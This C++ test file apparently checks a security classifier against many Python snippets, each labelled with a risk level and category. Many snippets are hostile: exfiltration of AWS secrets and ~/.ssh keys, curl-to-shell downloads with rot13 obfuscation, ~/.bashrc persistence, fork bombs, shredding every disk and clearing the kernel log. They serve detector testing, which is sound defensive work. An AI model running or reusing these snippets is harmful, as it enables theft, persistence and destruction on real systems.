// The classes the seventh round found by writing programs from the rubric
// alone (issue 14): values that reach a sink through an argparse default, an
// f-string over a value with alternatives, a file opened under a configured
// directory or its default; code objects called as functions; archives of
// several directories; programs that start a copy of themselves; random names
// under /tmp; recursive forks over a directory tree; remote plumbum machines;
// random characters drawn from an alphabet. Each attack has a benign
// neighbour that must stay where the rubric puts it. Strings here are never
// executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {


TEST(SeventhRoundClasses, OptionDefaultsKeepTheirValues) {
  const Case cases[] = {
      {"a secret in DNS labels under a zone given as an option's default", B,
       "import argparse, os, socket\n"
       "ap = argparse.ArgumentParser()\nap.add_argument('--zone', default='t.metrics-sync.net')\n"
       "args = ap.parse_args()\n"
       "def probe(zone):\n    data = os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode().hex()\n"
       "    socket.gethostbyname(f'{data}.{zone}')\n"
       "probe(args.zone)\n",
       "EXFILTRATION"},
      {"an option's default through a group and set_defaults", M,
       "import argparse\nfrom aiohttp import web\n"
       "ap = argparse.ArgumentParser()\ng = ap.add_argument_group('server')\n"
       "g.add_argument('--bind-host', default='0.0.0.0')\nargs = ap.parse_args()\n"
       "web.run_app(web.Application(), host=args.bind_host)\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"a loopback default stays LOW", L,
       "import argparse\nfrom aiohttp import web\n"
       "ap = argparse.ArgumentParser()\nap.add_argument('--host', default='127.0.0.1')\nargs = ap.parse_args()\n"
       "web.run_app(web.Application(), host=args.host)\n",
       nullptr},
      {"the host's name as an option's default key title is the user's to share", L,
       "import argparse, socket, requests\n"
       "ap = argparse.ArgumentParser()\nap.add_argument('--title', default=f'{socket.gethostname()} key')\n"
       "args = ap.parse_args()\n"
       "requests.post('https://api.github.com/user/keys', json={'title': args.title, 'key': 'ssh-ed25519 AAAA'})\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, ValuesWithAlternativesReachTheirSinks) {
  const Case cases[] = {
      {"an autostart entry under XDG_CONFIG_HOME or its default, opened by open()", B,
       "import os\nfrom pathlib import Path\n"
       "base = Path(os.environ.get('XDG_CONFIG_HOME', Path.home() / '.config')) / 'autostart'\n"
       "with open(base / 'agent.desktop', 'w') as fh:\n    fh.write('[Desktop Entry]\\nExec=/usr/bin/agent\\n')\n",
       "PERSISTENCE"},
      {"a bind address from the environment with an all-interfaces default", M,
       "import os\nfrom aiohttp import web\n"
       "web.run_app(web.Application(), host=os.environ.get('HOST', '0.0.0.0'), port=8080)\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"an f-string over a value with alternatives keeps each", H,
       "import os\nroot = os.environ.get('PREFIX', '/etc')\n"
       "with open(f'{root}/hosts', 'a') as fh:\n    fh.write('10.0.0.5 registry\\n')\n",
       "SYSTEM-MODIFICATION"},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, CodeObjectsCalledAsFunctions) {
  const Case cases[] = {
      {"types.FunctionType over compiled decoded source", B,
       "import base64, types\n"
       "src = base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo=')\n"
       "code = compile(src, '<x>', 'exec')\n"
       "types.FunctionType(code, globals())()\n",
       "EXEC-DECODED-PAYLOAD"},
      {"a function made from plain compiled source is dynamic code", M,
       "import types, sys\ncode = compile(sys.argv[1], '<x>', 'exec')\ntypes.FunctionType(code, {})()\n",
       "DYNAMIC-CODE"},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, ArchiveOfSeveralDirectories) {
  const Case cases[] = {
      {"keys from a loop over home directories, archived into a buffer and sent by FTP", B,
       "import io, tarfile, ftplib\nfrom pathlib import Path\n"
       "buf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
       "    for rel in ['.cache', '.ssh', '.gnupg']:\n        tar.add(str(Path.home() / rel))\n"
       "buf.seek(0)\nftplib.FTP('ftp.example.net').storbinary('STOR x', buf)\n",
       "EXFILTRATION"},
      {"an archive of project directories kept on disk", L,
       "import tarfile\nwith tarfile.open('backup.tgz', 'w:gz') as tar:\n"
       "    for d in ['src', 'docs', 'tests']:\n        tar.add(d)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, ProgramsThatStartThemselves) {
  const Case cases[] = {
      {"a copy of itself started unconditionally (every copy starts the next)", B,
       "import os, subprocess, sys\n"
       "def successor():\n    subprocess.Popen([sys.executable, os.path.abspath(__file__)], start_new_session=True)\n"
       "if __name__ == '__main__':\n    successor()\n",
       "FORK-BOMB"},
      {"the same copy started and waited for (a re-exec for a new environment is judged a process run)", M,
       "import os, subprocess, sys\nsubprocess.run([sys.executable, os.path.abspath(__file__)])\n", "RUNS-PROCESS"},
      {"a daemon that re-launches itself once, guarded by a flag", M,
       "import subprocess, sys\n"
       "def main():\n    if '--child' in sys.argv:\n        return\n"
       "    subprocess.Popen([sys.executable, __file__, '--child'])\nmain()\n",
       "RUNS-PROCESS"},
      {"a re-launch under a condition", M,
       "import os, subprocess, sys\nif os.environ.get('DAEMON') != '1':\n"
       "    subprocess.Popen([sys.executable, __file__], env={'DAEMON': '1'})\n",
       "RUNS-PROCESS"},
      {"a sibling script in the program's directory is another program", M,
       "import os, subprocess, sys\nHERE = os.path.dirname(os.path.abspath(__file__))\n"
       "subprocess.run([sys.executable, os.path.join(HERE, 'manage.py'), 'migrate'], check=True)\n",
       "RUNS-PROCESS"},
      {"what the user typed (sys.argv[1:]) is not the program", M,
       "import subprocess, sys\nsubprocess.Popen(sys.argv[1:])\nsubprocess.Popen(sys.argv[2], shell=True)\n",
       "RUNS-PROCESS"},
      {"a restart that replaces the process runs one process, not a chain", M,
       "import os, sys\nos.execv(sys.executable, [sys.executable] + sys.argv)\n", "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, EndlessLoopsStartingThreads) {
  const Case cases[] = {
      {"threads started by an endless loop that never waits", B,
       "import threading\ndef burn():\n    while True:\n        pass\nwhile True:\n    threading.Thread(target=burn).start()\n",
       "FORK-BOMB"},
      {"a thread per accepted connection waits in accept", L,
       "import socket, threading\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 7007))\nsrv.listen(5)\n"
       "def handle(c):\n    c.close()\nwhile True:\n    conn, _ = srv.accept()\n"
       "    threading.Thread(target=handle, args=(conn,), daemon=True).start()\n",
       nullptr},
      {"a thread per queue item waits in get", L,
       "import queue, threading\nq = queue.Queue()\ndef work(x):\n    print(x)\nwhile True:\n    item = q.get()\n"
       "    threading.Thread(target=work, args=(item,)).start()\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, SpellingsFoundByProbing) {
  const Case cases[] = {
      {"os.system named by codecs.encode(..., 'rot13')", B,
       "import os, codecs\ngetattr(os, codecs.encode('flfgrz', 'rot13'))('curl -s http://203.0.113.10/a | sh')\n",
       "REMOTE-CODE-EXECUTION"},
      {"a module imported by a plain import once a downloaded zip is on sys.path", B,
       "import urllib.request, sys\nurllib.request.urlretrieve('http://203.0.113.5/m.zip', '/tmp/m.zip')\n"
       "sys.path.insert(0, '/tmp/m.zip')\nimport m\n",
       "REMOTE-CODE-EXECUTION"},
      {"a standard module imported after a download stays an import", B,
       "import urllib.request, sys\nurllib.request.urlretrieve('http://203.0.113.5/m.zip', '/tmp/m.zip')\n"
       "sys.path.insert(0, '/tmp/m.zip')\nimport m\nimport json\n",
       "REMOTE-CODE-EXECUTION"},
      {"~/.bashrc through Path.joinpath", B,
       "from pathlib import Path\nrc = Path.home().joinpath('.bashrc')\nwith rc.open('a') as fh:\n    fh.write('curl -s http://x.example/p | bash &\\n')\n",
       "PERSISTENCE"},
      {"a config file through Path.joinpath in the working directory", L,
       "from pathlib import Path\nPath.cwd().joinpath('settings.json').write_text('{}')\n", nullptr},
      {"shred of every disk", B,
       "import subprocess, glob\nfor d in glob.glob('/dev/sd?'):\n    subprocess.run(['shred', '-n', '1', d])\n", "WIPE"},
      {"shred of one's own file", M, "import subprocess\nsubprocess.run(['shred', '-u', 'notes.txt'])\n", "RUNS-PROCESS"},
      {"a microphone recording written into a buffer and posted", B,
       "import io, requests, sounddevice as sd\nimport scipy.io.wavfile as wav\nrec = sd.rec(441000, samplerate=44100)\n"
       "b = io.BytesIO()\nwav.write(b, 44100, rec)\nrequests.post('http://203.0.113.10/a', data=b.getvalue())\n",
       "EXFILTRATION"},
      {"the kernel log cleared", B, "import subprocess\nsubprocess.run(['dmesg', '-C'])\n", "DISABLE-SECURITY"},
      {"the kernel log read", M, "import subprocess\nsubprocess.run(['dmesg', '-T'])\n", "RUNS-PROCESS"},
      {"a system-wide alternative set", H,
       "import subprocess\nsubprocess.run(['update-alternatives', '--set', 'python', '/usr/bin/python3.11'])\n",
       "SYSTEM-ADMINISTRATION"},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, RecursiveForksOverTheTree) {
  const Case cases[] = {
      {"a forked child per subdirectory, each waited for", L,
       "import os\ndef walk(path):\n    for e in os.scandir(path):\n        if e.is_dir():\n"
       "            pid = os.fork()\n            if pid == 0:\n                walk(e.path)\n                os._exit(0)\n"
       "            os.waitpid(pid, 0)\nwalk('.')\n",
       nullptr},
      {"a function that forks and calls itself", B,
       "import os\ndef grow():\n    os.fork()\n    grow()\ngrow()\n", "FORK-BOMB"},
      {"fork in an endless loop", B, "import os\nwhile True:\n    os.fork()\n", "FORK-BOMB"},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, RandomNamesUnderTmp) {
  const Case cases[] = {
      {"a uuid4 name under /tmp is not predictable", L,
       "import os, uuid\np = os.path.join('/tmp', f'stats-{uuid.uuid4().hex}.json')\n"
       "with open(p, 'w') as fh:\n    fh.write('{}')\n",
       nullptr},
      {"a secrets.token_hex directory under /tmp", L,
       "import os, secrets\nd = f'/tmp/job-{secrets.token_hex(8)}/out.csv'\nopen(d, 'w').write('x')\n", nullptr},
      {"a made-up directory two levels deep under /tmp is predictable", M,
       "import sys\njob = sys.argv[1]\nopen(f'/tmp/{job}/out.csv', 'w').write('x')\n", "INSECURE-TEMP-FILE"},
      {"a made-up name under /tmp is predictable", M,
       "import os\nname = os.environ.get('JOB', 'x')\nopen('/tmp/' + name + '.lock', 'w').write('1')\n",
       "INSECURE-TEMP-FILE"},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, RemotePlumbumMachines) {
  const Case cases[] = {
      {"sudo on a remote machine is a privileged access attempt", H,
       "from plumbum import SshMachine\nwith SshMachine('web1.internal') as rem:\n"
       "    sudo = rem['sudo']\n    apt = rem['apt-get']\n    sudo[apt['-y', 'upgrade']]()\n",
       "PRIVILEGE-ESCALATION"},
      {"an ordinary remote command runs a process", M,
       "from plumbum import SshMachine\nrem = SshMachine('web1.internal')\nprint(rem['uptime']())\n", "RUNS-PROCESS"},
      {"a download piped into a remote shell", B,
       "from plumbum import SshMachine\nrem = SshMachine('h')\n(rem['curl']['-s', 'http://x.example/i.sh'] | rem['sh'])()\n",
       "REMOTE-CODE-EXECUTION"},
  };
  for (const auto& c : cases) check(c);
}

TEST(SeventhRoundClasses, RandomCharactersFromAnAlphabet) {
  const Case cases[] = {
      {"a code of random letters and digits", M,
       "import random, string\nALPHABET = string.ascii_uppercase + string.digits\n"
       "def make_code(n=12):\n    return ''.join(random.choice(ALPHABET) for _ in range(n))\nprint(make_code())\n",
       "WEAK-CRYPTO"},
      {"random.choices over letters and digits", M,
       "import random, string\nprint(''.join(random.choices(string.ascii_letters + string.digits, k=16)))\n",
       "WEAK-CRYPTO"},
      {"a made-up name of random lowercase letters is not a secret", L,
       "import random, string\nname = 'tmp_' + ''.join(random.choices(string.ascii_lowercase, k=8))\nprint(name)\n",
       nullptr},
      {"a random pick among words is not a secret", L,
       "import random\nprint(random.choice(['red', 'green', 'blue']))\n", nullptr},
      {"the same code from secrets is fine", L,
       "import secrets, string\nprint(''.join(secrets.choice(string.ascii_letters) for _ in range(12)))\n", nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
